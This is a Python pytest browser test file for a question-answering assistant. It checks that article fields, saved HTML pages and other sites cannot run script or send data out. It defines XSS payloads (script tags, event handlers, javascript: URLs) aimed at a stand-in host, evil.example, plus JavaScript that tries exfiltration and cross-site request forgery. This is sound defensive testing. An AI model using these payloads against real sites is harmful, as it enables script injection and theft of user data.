"""What an article, a file and another site's page try in a real browser, and do not get."""

from __future__ import annotations

from dataclasses import replace

import pytest
from doubles import BRIDGE, FERRY, make_index
from webserver import web_on_loopback

from assistant import Assistant, rendering
from assistant.conversations import Conversations

pytestmark = pytest.mark.slow

QUESTION = "Who said the ferry carried 61 people?"
SINK = "http://evil.example/x.png"
ACTS = (
    "<script>window.acted = 1</script><img src=x onerror='window.acted = 1'>"
    "<svg onload='window.acted = 1'></svg><a href='javascript:window.acted = 1'>click</a>"
    "<math><mtext><style>*{display:none}</style></mtext></math><iframe srcdoc='<p>'></iframe>"
    f"<video poster={SINK}></video><form action={SINK}><input autofocus onfocus='acted = 1'></form>"
    f"{{{{constructor.constructor('window.acted = 1')()}}}} ${{window.acted = 1}} ![a]({SINK})"
)
HOSTILE = replace(
    FERRY,
    text=f"{FERRY.text}\n\nThe ferry {ACTS} sank, Harbourmaster Ines Dray said.",
    title=f"Ferry {ACTS}",
    outlet=f'The "Post" {ACTS}',
    authors=(f"Ada {ACTS}",),
    url="https://saltmarsh.example/\"onmouseover='window.acted=1'",
)


@pytest.fixture
def index(tmp_path):
    with make_index(tmp_path / "archive", HOSTILE, BRIDGE) as index:
        yield index


def ask(page, question=QUESTION):
    page.get_by_label("Your question").fill(question)
    page.get_by_label("Your question").press("Enter")
    page.get_by_text("1 cited").wait_for()


def acted(page):
    page.wait_for_timeout(200)  # what an element does once it has loaded
    return page.evaluate("window.acted")


def test_no_article_acts_where_it_is_cited_listed_or_read(index, page, serve_page):
    page.goto(home := serve_page(Assistant(index)))
    ask(page)
    assert acted(page) is None
    page.get_by_role("button", name="Source 1:").first.click()
    page.locator("dialog mark").wait_for()
    assert acted(page) is None
    for path in ("/archive", "/article/ferry"):
        page.goto(home + path)
        page.locator("main :is(a, h1)", has_text="window.acted").first.wait_for()
        assert acted(page) is None
        assert page.locator("main").locator("img, svg, iframe, form[action*=evil]").count() == 0


@pytest.mark.parametrize("name", ["answer", "conversation"])
def test_a_saved_page_opens_whole_and_does_nothing(index, browser, tmp_path, name):
    answer = Assistant(index).ask(QUESTION)
    saved = tmp_path / "saved.html"
    title = f"Talk {ACTS}"
    made = {
        "answer": rendering.as_html(answer),
        "conversation": rendering.conversation_as("html", title, [answer, answer]),
    }
    saved.write_text(made[name], "utf-8")
    page = browser.new_page()
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(saved.as_uri())
    assert acted(page) is None
    assert asked == [saved.as_uri()]
    assert page.locator("script, img, svg, iframe, form, video, math").count() == 0
    assert page.get_by_text(answer.claims[0].text).first.is_visible()
    page.close()


LEAVING = """async url => {
  const tried = [];
  tried.push(fetch(url + "?fetch", {mode: "no-cors"}).then(() => "left", () => "kept"));
  tried.push(new Promise(told => {
    const image = new Image();
    image.onload = () => told("left");
    image.onerror = () => told("kept");
    image.src = url + "?image";
  }));
  const form = document.createElement("form");
  form.action = url + "?form";
  document.body.append(form);
  form.submit();
  const frame = document.createElement("iframe");
  frame.src = url + "?frame";
  document.body.append(frame);
  navigator.sendBeacon(url + "?beacon", "secret");
  await new Promise(done => setTimeout(done, 500));
  return Promise.all(tried);
}"""


def test_even_a_script_on_the_page_can_send_nothing_elsewhere(index, browser, serve_page):
    with web_on_loopback() as elsewhere:
        elsewhere.put("/sink", b"\x89PNG", "image/png")
        page = browser.new_page()
        page.goto(serve_page(Assistant(index)))
        assert page.evaluate(LEAVING, f"{elsewhere.url}/sink") == ["kept", "kept"]
        page.close()
        assert elsewhere.paths == []


MEDDLING = """async home => {
  const text = JSON.stringify({question: "Who said so?", conversation: "new"});
  const sent = {mode: "no-cors", method: "POST", credentials: "include", body: text};
  await fetch(home + "/api/ask", sent).catch(() => null);
  const read = await fetch(home + "/api/conversations", {credentials: "include"})
    .then(response => response.text(), () => "unread");
  const frame = document.createElement("iframe");
  frame.src = home;
  document.body.append(frame);
  await new Promise(done => setTimeout(done, 800));
  return read;
}"""


def test_a_page_of_another_site_neither_asks_nor_reads_nor_frames(
    index, browser, serve_page, tmp_path
):
    with Conversations.open(tmp_path / "talks.db") as kept, web_on_loopback() as elsewhere:
        home = serve_page(Assistant(index), conversations=kept)
        visitor = browser.new_context()
        page = visitor.new_page()
        page.goto(home)
        ask(page)
        page.locator(".exports a").first.wait_for()
        mine = page.request.get(f"{home}/api/conversations").json()["conversations"]
        page.goto(elsewhere.put("/", "<title>Prize</title><p>You won."))
        assert page.evaluate(MEDDLING, home) == "unread"
        assert not [each.url for each in page.frames if each.url.startswith(home)]
        assert page.request.get(f"{home}/api/conversations").json()["conversations"] == mine
        visitor.close()
